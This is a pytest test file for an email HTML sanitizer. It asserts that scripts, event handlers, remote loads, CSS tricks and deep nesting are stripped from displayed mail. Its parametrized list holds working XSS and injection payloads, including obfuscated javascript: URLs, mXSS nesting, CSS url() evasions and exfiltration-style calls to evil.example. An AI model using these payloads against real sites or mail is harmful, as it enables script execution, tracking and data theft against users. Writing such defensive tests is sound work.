"""Nothing in shown mail executes, loads, submits or covers."""

from __future__ import annotations

import pytest

from postroom.mail.mime.sanitize import VERSION, SanitizedHtml, sanitize


def clean(html: str, *, with_remote_images: bool = False) -> SanitizedHtml:
    def url_of(content_id: str) -> str | None:
        return "/inline/1" if content_id == "logo@x" else None

    return sanitize(html, with_remote_images=with_remote_images, attachment_url=url_of)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<img src=x onerror=alert(1)>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href=' &#106;avascript:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><use href='//evil.example/x.svg#a'></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input name=a></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<style>@import '//evil.example'; input[value^=a]{background:url(//evil.example)}</style>",
        "<div style='background:url(//evil.example/a)'>x</div>",
        "<div style='background:u\\72l(//evil.example/a)'>x</div>",
        "<div style='background:ur/**/l(//evil.example/a)'>x</div>",
        "<div style='background:image-set(\"//evil.example/a\" 1x)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='position:fixed;top:0'>x</div>",
        "<div style='color:var(--x)'>x</div>",
        "<img srcset='//evil.example/a 2x' alt=y>",
        "<video poster=//evil.example/a></video>",
        "<table background=//evil.example/a><tr><td background='https://evil.example'>x</table>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<!--[if mso]><img src=//evil.example><![endif]-->",
        "<object data=//evil.example></object><embed src=//evil.example>",
    ],
)
def test_nothing_executes_or_loads(html: str) -> None:
    shown = clean(html).html.lower()
    for sign in (
        "script",
        "alert(",
        "onerror",
        "evil.example",
        "data:",
        "url(",
        "expression",
        "position",
        "var(",
        "<form",
        "<svg",
        "<!--",
    ):
        assert sign not in shown


def test_remote_images_are_taken_out_and_counted() -> None:
    html = (
        '<img src="https://t.example/1.png"><img src="https://t.example/1.png"><img src="//t.example/2.png">'
        "<table background='http://t.example/3'></table><p style=\"background:url('https://t.example/4')\">x"
    )
    assert clean(html).blocked_images == 4
    assert "t.example" not in clean(html).html


def test_remote_images_are_shown_when_asked_for_but_no_css_urls() -> None:
    shown = clean(
        '<img src="//t.example/1.png"><p style="background:url(https://t.example/2)">x', with_remote_images=True
    )
    assert shown == SanitizedHtml('<img src="https://t.example/1.png"><p>x</p>', 0, VERSION)


def test_inline_images_are_mapped_and_unknown_ones_are_not_shown() -> None:
    assert clean('<img src="cid:logo@x"><img src="CID:other">').html == '<img src="/inline/1"><img>'


def test_links_open_apart_and_tell_nothing() -> None:
    expected = '<a href="https://x.example" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    assert clean('<a href="https://x.example" target=_top>x</a>').html == expected


def test_harmless_looks_are_kept() -> None:
    html = '<div style="color: #1F497D; font-family: &quot;Arial&quot;,sans-serif; margin: 0 auto !important">x</div>'
    assert clean(html).html == html


def test_html_nested_beyond_reason_is_shown_as_text() -> None:
    assert clean("<div>" * 100_000 + "<script>x").html.startswith("<pre>")
